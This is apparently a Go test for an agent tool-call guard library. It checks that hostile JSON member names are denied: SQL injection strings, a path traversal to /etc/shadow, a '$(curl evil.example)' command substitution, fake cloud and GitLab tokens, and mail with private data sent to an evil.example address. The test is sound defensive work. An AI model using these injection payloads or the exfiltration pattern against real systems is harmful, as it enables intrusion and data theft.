package guard_test

import (
	"encoding/json"
	"testing"

	"durward"
)

// The names of members are judged like values: an agent may write anything there.
func TestNamesOfMembersAreValues(t *testing.T) {
	const bait = "AKIAQHONEYTOKEN12345"
	p := policy(t, durward.Guard{Honeytokens: []string{bait, "planted-and-never-used"}})
	s := p.Scope("bot", operation("add_note"))
	for _, name := range []string{bait, "planted-and-never-used", "AKIA" + "QX7RTV2KMNPLW4ZS", "glpat-" + "a8Zk2LmP9qRt4VwXy7Bc", "1' OR '1'='1", "../../../../etc/shadow", "$(curl evil.example)", "-1 union select 1,password from users"} {
		for _, args := range []any{map[string]any{"text": "a", name: "b"}, map[string]any{"edits": []any{map[string]any{"old": "a", name: 1}}}} {
			raw, _ := json.Marshal(args)
			if v := s.Arguments(raw); v.Effect != durward.Deny {
				t.Errorf("%s: %s %+v", raw, v.Effect, v.Findings)
			}
		}
	}
	for _, name := range []string{"text", "$filter", "Content-Type", "src/app/main.ts", "data.users[0].name", "Total (EUR)", "user@corp.example", "2026-11-23", "a:b", "Q3 & Q4", "What's new?", "x-amz-meta-id", "customfield_10016", "b8c1d6b2-4f8e-4c55-9a7e-0c2f3a4b5c6d", "https://example.org/a?b=c", "Größe", "first name", "README.md", "../lib/util.go", "C#", "50%"} {
		raw, _ := json.Marshal(map[string]any{"fields": map[string]any{name: "a"}})
		if v := s.Arguments(raw); v.Effect <= durward.Hold {
			t.Errorf("%s: %s %+v", raw, v.Effect, v.Findings)
		}
	}

	raw, _ := json.Marshal(map[string]any{"to": "x@evil.example", "body": "hi", private: "x"})
	talk, of := reaching(t)
	if v := talk.Judge(of("send_mail", "{}"), raw); v.Effect > durward.Hold || v.Worst().Rule != "flow.exfiltration" {
		t.Errorf("%s: %s %+v", raw, v.Effect, v.Findings)
	}
	raw, _ = json.Marshal(map[string]any{"url": "https://x.example/", "headers": map[string]any{private: "x"}})
	talk, of = reaching(t)
	if v := talk.Judge(of("fetch", "{}"), raw); v.Effect > durward.Hold {
		t.Errorf("%s: %s %+v", raw, v.Effect, v.Findings)
	}
}
